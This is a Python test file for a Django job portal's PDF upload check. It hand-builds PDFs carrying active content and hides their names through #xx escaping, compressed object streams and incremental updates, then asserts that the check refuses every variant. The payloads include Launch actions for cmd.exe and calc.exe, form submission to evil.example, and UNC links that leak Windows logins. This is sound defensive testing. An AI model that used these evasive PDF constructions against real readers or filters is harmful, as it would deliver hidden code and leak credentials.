"""Attack: a PDF with active content, written so that a byte search does not see it.

Every active entry (scripts, automatic actions, form submissions, embedded files, links to other
files, rich media, XML forms), in every place a viewer looks (catalog, name trees, pages,
annotations, form fields), is built by hand in four forms: plain, with every name written in
``#xx`` escapes, inside a compressed object stream with a compressed cross-reference stream,
and both. Each must be refused by the upload check; the same documents without the active entry
must pass (which also proves the hand-built files are real PDFs).
"""

import io
import re
import zlib
from dataclasses import dataclass

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter

from portal.files import validate_document

CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%s>>"
RECT = b"/Rect[10 10 100 100]"


@dataclass
class Stream:
    dictionary: bytes  # the entries, without << >>
    data: bytes


def document(catalog=b"", page=b"", **more):
    objects = {1: CATALOG % catalog, 2: PAGES, 3: PAGE % page}
    objects.update({int(k[1:]): v for k, v in more.items()})
    return objects


def link(action):
    return document(
        page=b"/Annots[4 0 R]", o4=b"<</Type/Annot/Subtype/Link" + RECT + b"/A" + action + b">>"
    )


def field(action_key, action):
    widget = (
        b"<</FT/Btn/T(ok)/Type/Annot/Subtype/Widget"
        + RECT
        + b"/P 3 0 R"
        + action_key
        + action
        + b">>"
    )
    return document(catalog=b"/AcroForm<</Fields[4 0 R]>>", page=b"/Annots[4 0 R]", o4=widget)


EMBEDDED = Stream(b"/Type/EmbeddedFile", b"MZ\x90\x00 not a letter")
FILESPEC = b"<</Type/Filespec/F(setup.exe)/EF<</F 5 0 R>>>>"

ACTIVE = {
    "JavaScript name tree in the catalog": document(
        catalog=b"/Names<</JavaScript 4 0 R>>",
        o4=b"<</Names[(a) 5 0 R]>>",
        o5=b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    ),
    "OpenAction running a script from a compressed stream": document(
        catalog=b"/OpenAction 4 0 R",
        o4=b"<</S/JavaScript/JS 5 0 R>>",
        o5=Stream(b"", b"app.launchURL('https://evil.example/');"),
    ),
    "OpenAction going to another file": document(
        catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"
    ),
    "page open event (AA) launching a program": document(
        page=b"/AA<</O 4 0 R>>", o4=b"<</S/Launch/F(cmd.exe)>>"
    ),
    "link launching a program": link(b"<</S/Launch/Win<</F(calc.exe)>>>>"),
    "link to another file (GoToR)": link(b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>"),
    "link into an embedded file (GoToE)": link(b"<</S/GoToE/T<</R/C/N(a)>>>>"),
    "link with a javascript: URI": link(b"<</S/URI/URI(javascript:app.alert\\(1\\))>>"),
    "link with a file: URI (leaks the Windows login)": link(
        b"<</S/URI/URI(file://evil.example/share/a)>>"
    ),
    "link playing a rendition": link(b"<</S/Rendition/OP 0>>"),
    "link playing a sound": link(b"<</S/Sound/Sound 5 0 R>>")
    | {5: Stream(b"/R 8000", b"\x00" * 16)},
    "link playing a movie": link(b"<</S/Movie/T(m)>>"),
    "action type given indirectly": link(b"<</S 5 0 R/JS(app.alert\\(1\\))>>")
    | {5: b"/JavaScript"},
    "form field sending its data": field(b"/A", b"<</S/SubmitForm/F(https://evil.example/)>>"),
    "form field importing data": field(b"/A", b"<</S/ImportData/F(data.fdf)>>"),
    "form field resetting the form": field(b"/A", b"<</S/ResetForm>>"),
    "form field event (AA) running a script": field(b"/AA", b"<</K<</S/JavaScript/JS(1)>>>>"),
    "XFA form": document(
        catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>", o4=Stream(b"", b"<xdp:xdp></xdp:xdp>")
    ),
    "embedded file in the name tree": document(
        catalog=b"/Names<</EmbeddedFiles<</Names[(setup.exe) 4 0 R]>>>>",
        o4=FILESPEC,
        o5=EMBEDDED,
    ),
    "file attachment annotation": document(
        page=b"/Annots[4 0 R]",
        o4=b"<</Type/Annot/Subtype/FileAttachment" + RECT + b"/FS 6 0 R>>",
        o5=EMBEDDED,
        o6=FILESPEC,
    ),
    "associated file (PDF 2.0)": document(catalog=b"/AF[4 0 R]", o4=FILESPEC, o5=EMBEDDED),
    "portfolio (collection)": document(catalog=b"/Collection<</View/D>>"),
    "rich media annotation": document(
        page=b"/Annots[4 0 R]",
        o4=b"<</Type/Annot/Subtype/RichMedia" + RECT + b"/RichMediaContent<<>>>>",
    ),
    "screen annotation": document(
        page=b"/Annots[4 0 R]", o4=b"<</Type/Annot/Subtype/Screen" + RECT + b">>"
    ),
    "3D annotation": document(
        page=b"/Annots[4 0 R]", o4=b"<</Type/Annot/Subtype/3D" + RECT + b">>"
    ),
}

# Each entry of the class alone, with nothing else active beside it: the check must know each
# one by itself, not only in company of a /JavaScript or a /Launch.
ACTIVE |= {
    "/JS without an action type": link(b"<</JS(app.alert\\(1\\))>>"),
    "document event (AA on the catalog)": document(catalog=b"/AA<</WC<</S/GoTo/D[3 0 R/Fit]>>>>"),
    "annotation event (AA on a link)": document(
        page=b"/Annots[4 0 R]",
        o4=b"<</Type/Annot/Subtype/Link" + RECT + b"/AA<</E<</S/GoTo/D[3 0 R/Fit]>>>>>>",
    ),
    "rich media settings alone": document(
        page=b"/Annots[4 0 R]",
        o4=b"<</Type/Annot/Subtype/Square" + RECT + b"/RichMediaSettings<<>>>>",
    ),
    "link to a 3D view": link(b"<</S/GoTo3DView/V 0>>"),
    "link running rich media": link(b"<</S/RichMediaExecute/CMD<</C(play)>>>>"),
    "embedded file stream alone": document(o4=EMBEDDED),
    "file specification with an embedded file alone": document(
        o4=b"<</Type/Filespec/F(a.txt)/EF<<>>>>"
    ),
    "link following an article thread in another file": link(b"<</S/Thread/F(other.pdf)/D 0>>"),
    "javascript: URI in capitals after a space": link(
        b"<</S/URI/URI( JavaScript:app.alert\\(1\\))>>"
    ),
    "javascript: URI as a hex string": link(b"<</S/URI/URI<6a6176617363726970743a31>>>"),
    "UNC path as URI": link(b"<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>"),
}

HARMLESS = {
    "a blank page": document(),
    "a link to a web page": link(b"<</S/URI/URI(https://disnaker.example/lowongan)>>"),
    "a mail link": link(b"<</S/URI/URI(mailto:hrd@example.com)>>"),
    "a link inside the document": link(b"<</S/GoTo/D[3 0 R/Fit]>>"),
    "a compressed page content": document(page=b"/Contents 4 0 R", o4=Stream(b"", b"BT ET")),
}

# A name is '/' and regular characters; strings (in parentheses) are left alone.
TOKEN = re.compile(rb"\((?:[^()\\]|\\.)*\)|/[A-Za-z0-9]+")


def escape_names(body):
    """/OpenAction -> /#4F#70#65#6E#41#63#74#69#6F#6E: the same name to a viewer."""

    def escape(match):
        token = match.group()
        if token.startswith(b"("):
            return token
        return b"/" + b"".join(b"#%02X" % byte for byte in token[1:])

    return TOKEN.sub(escape, body)


def serialise(objects, *, escaped=False, compressed=False, chain=False):
    """The objects as a PDF file: a classic cross-reference table, or (compressed) every
    non-stream object in a flate object stream indexed by a flate cross-reference stream."""

    def body(obj):
        return escape_names(obj) if escaped else obj

    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def write_object(number, content):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))

    def stream_object(stream, extra=b""):
        data = zlib.compress(stream.data) if compressed else stream.data
        dictionary = body(stream.dictionary) + extra
        if compressed and chain:  # a chain of filters: hex text of the compressed bytes
            data = data.hex().encode() + b">"
            dictionary += body(b"/Filter[/ASCIIHexDecode/FlateDecode]")
        elif compressed:
            dictionary += body(b"/Filter/FlateDecode")
        return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (dictionary, len(data), data)

    plain = {n: o for n, o in objects.items() if not isinstance(o, Stream)}
    for number, obj in sorted(objects.items()):
        if isinstance(obj, Stream):
            write_object(number, stream_object(obj))
        elif not compressed:
            write_object(number, body(obj))
    size = max(objects) + 1
    if not compressed:
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
        for number in range(1, size):
            out.write(b"%010d 00000 n \n" % offsets[number])
        out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
        return out.getvalue()
    objstm, xrefstm = size, size + 1
    header, bodies, index = [], b"", {}
    for i, (number, obj) in enumerate(sorted(plain.items())):
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += body(obj) + b"\n"
        index[number] = i
    first = b" ".join(header) + b"\n"
    write_object(
        objstm,
        stream_object(
            Stream(b"", first + bodies), b"/Type/ObjStm/N %d/First %d" % (len(plain), len(first))
        ),
    )
    xref_offset = out.tell()
    offsets[xrefstm] = xref_offset
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, xrefstm + 1):
        if number in index:
            rows.append(b"\x02" + objstm.to_bytes(4, "big") + index[number].to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    data = zlib.compress(b"".join(rows))
    out.write(
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (xrefstm, xrefstm + 1, len(data), data, xref_offset)
    )
    return out.getvalue()


OLD_MARKERS = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/AA")
FORMS = {
    "plain": {},
    "escaped": {"escaped": True},
    "compressed": {"compressed": True},
    "escaped+compressed": {"escaped": True, "compressed": True},
    "escaped+hex+compressed": {"escaped": True, "compressed": True, "chain": True},
}


def check(content):
    validate_document(SimpleUploadedFile("surat.pdf", content, content_type="application/pdf"))


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("case", ACTIVE)
def test_every_active_entry_is_refused_in_every_spelling_and_compression(case, form):
    content = serialise(ACTIVE[case], **FORMS[form])
    if "escaped" in form:  # what the byte search of old looked for is not in the file
        assert not any(marker in content for marker in OLD_MARKERS)
    with pytest.raises(ValidationError) as error:
        check(content)
    assert error.value.code == "active_pdf", case


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("case", HARMLESS)
def test_the_same_documents_without_active_content_pass(case, form):
    check(serialise(HARMLESS[case], **FORMS[form]))


@pytest.mark.parametrize("form", FORMS)
def test_an_action_written_twice_is_refused_whichever_one_is_read(form):
    # pypdf keeps the first /S, a viewer may take the last: refused as a damaged file.
    content = serialise(
        link(b"<</S/URI/URI(https://ok.example/)/S/Launch/F(calc.exe)>>"), **FORMS[form]
    )
    with pytest.raises(ValidationError) as error:
        check(content)
    assert error.value.code == "unreadable_pdf"


def test_an_action_added_by_an_incremental_update_is_refused():
    original = serialise(document())
    prev = int(original.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    offset = len(original)
    update = (
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/Launch/F(calc.exe)>>>>\nendobj\n"
    )
    xref = offset + len(update)
    update += b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\n" % (
        offset,
        prev,
    )
    update += b"startxref\n%d\n%%%%EOF\n" % xref
    with pytest.raises(ValidationError) as error:
        check(original + update)
    assert error.value.code == "active_pdf"


def test_the_message_names_what_was_found_and_what_to_do():
    from django.utils import translation

    with translation.override("id"), pytest.raises(ValidationError) as error:
        check(serialise(ACTIVE["link launching a program"], escaped=True))
    message = error.value.messages[0]
    assert "Launch" in message
    assert "simpan ulang" in message.lower() and "PDF biasa" in message


def test_an_encrypted_pdf_is_refused_with_its_own_message():
    from django.utils import translation

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    with translation.override("id"), pytest.raises(ValidationError) as error:
        check(out.getvalue())
    assert error.value.code == "encrypted_pdf"
    assert "kata sandi" in error.value.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\nthis is not a PDF at all",
        serialise(document())[:60],
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>endobj\n%%EOF",
    ],
    ids=["garbage", "truncated", "no cross-reference"],
)
def test_an_unreadable_pdf_is_refused(content):
    with pytest.raises(ValidationError) as error:
        check(content)
    assert error.value.code in ("unreadable_pdf", "active_pdf")


def test_every_file_a_person_can_upload_passes_the_check():
    """The check is on every file field of the apps, whatever form or service fills it; only
    copies the portal itself writes from checked files (the AK/I card's photo) are exempt."""
    from django.apps import apps
    from django.db import models

    from portal.files import DocumentValidator

    written_by_the_portal = {
        ("jobboard.Ak1Card", "snapshot_photo"),
        # a registration's chosen file, kept between steps only after the form's own field
        # (with the record's validators) checked it; the record's field checks it again
        ("portal.PendingUpload", "file"),
    }
    fields = [
        (model._meta.label, field)
        for model in apps.get_models()
        if not model.__name__.startswith("Historical")
        for field in model._meta.get_fields()
        if isinstance(field, models.FileField)
    ]
    assert len(fields) > 10, fields  # the walk finds the KTP, CV, letters, attachments...
    unchecked = [
        (label, field.name)
        for label, field in fields
        if not any(isinstance(v, DocumentValidator) for v in field.validators)
        and (label, field.name) not in written_by_the_portal
    ]
    assert unchecked == []
